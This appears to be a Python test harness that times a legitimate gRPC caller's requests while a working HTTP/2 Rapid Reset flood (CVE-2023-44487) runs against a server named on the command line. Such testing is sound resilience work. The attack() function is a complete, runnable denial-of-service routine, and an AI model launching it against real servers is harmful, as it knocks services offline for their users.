"""What a caller notices while others open streams and reset them as fast as they can (CVE-2023-44487)."""

import contextlib
import multiprocessing
import socket
import statistics
import threading
import time

from idle_streams import DATA, END_HEADERS, END_STREAM, HEADERS, SETTINGS, field, frame
from programs import h2load

RST_STREAM = 3
CANCEL = (8).to_bytes(4, "big")
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0)
RESETS = 100_000
# More than one connection is allowed before it is ended.
RESETS_PER_CONNECTION = 2_000


def connect(address: str) -> socket.socket:
    host, port = address.rsplit(":", 1)
    connection = socket.create_connection((host, int(port)))
    connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return connection


def header_block(address: str, path: str) -> bytes:
    fields = [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", address)]
    return b"".join(field(*each) for each in [*fields, ("content-type", "application/grpc"), ("te", "trailers")])


def attack(address: str, path: str, resets: int) -> None:
    """Opens and resets so many streams, on as many connections as it takes."""
    block = header_block(address, path)
    bytes_of_all = PREFACE + b"".join(
        frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, CANCEL)
        for stream in range(1, 2 * RESETS_PER_CONNECTION, 2)
    )
    each = len(bytes_of_all) // RESETS_PER_CONNECTION
    sent = 0
    while sent < resets:
        with connect(address) as connection, contextlib.suppress(OSError):
            rest = memoryview(bytes_of_all)
            while rest:
                part = connection.send(rest[:65_536])
                sent += part // each
                rest = rest[part:]


class Caller:
    """One call after the other on one connection, each begun a millisecond after the last one ended."""

    def __init__(self, address: str, path: str, message: bytes):
        self.socket = connect(address)
        self.block = header_block(address, path)
        self.message = message
        self.stream = 1
        self.received = b""
        self.socket.sendall(PREFACE)

    def call(self) -> float:
        """How long it took, in seconds."""
        began = time.perf_counter()
        request = frame(HEADERS, END_HEADERS, self.stream, self.block)
        self.socket.sendall(request + frame(DATA, END_STREAM, self.stream, self.message))
        while not self._is_answered():
            part = self.socket.recv(65_536)
            if not part:
                raise SystemExit("the server closed a good caller's connection")
            self.received += part
        self.stream += 2
        return time.perf_counter() - began

    def _is_answered(self) -> bool:
        while len(self.received) >= 9:
            end = 9 + int.from_bytes(self.received[:3], "big")
            if len(self.received) < end:
                return False
            kind, flags, stream = self.received[3], self.received[4], int.from_bytes(self.received[5:9], "big")
            self.received = self.received[end:]
            if kind == SETTINGS and not flags & 1:
                self.socket.sendall(frame(SETTINGS, 1, 0))
            if stream == self.stream and (flags & END_STREAM or kind == RST_STREAM):
                return True
        return False

    def times(self, count: int | None = None, until: multiprocessing.Process | None = None) -> list[float]:
        found = []
        while len(found) < count if count else until.is_alive():
            found.append(self.call())
            time.sleep(0.001)
        return found


def percentile(times: list[float], of: float) -> float:
    return statistics.quantiles(times, n=1000, method="inclusive")[round(of * 1000) - 1]


def measure(address: str, path: str, message: bytes, resets: int = RESETS) -> tuple[list[float], list[float], float]:
    """Times of calls before and during an attack, and how many resets a second there were."""
    caller = Caller(address, path, message)
    caller.times(count=500)
    normal = caller.times(count=3_000)
    attacker = multiprocessing.get_context("spawn").Process(target=attack, args=(address, path, resets))
    attacker.start()
    began = time.monotonic()
    attacked = caller.times(until=attacker)
    return normal, attacked, resets / (time.monotonic() - began)


if __name__ == "__main__":
    import sys

    normal, attacked, rate = measure(sys.argv[1], sys.argv[2], bytes(5), int(sys.argv[3]))
    for name, times in [("normal", normal), ("attacked", attacked)]:
        print(f"{name}: {len(times)} calls, p50 {percentile(times, .5) * 1e3:.3f} ms, p99 {percentile(times, .99) * 1e3:.3f} ms, max {max(times)*1e3:.2f}")
    print(f"{rate:,.0f} resets/s")
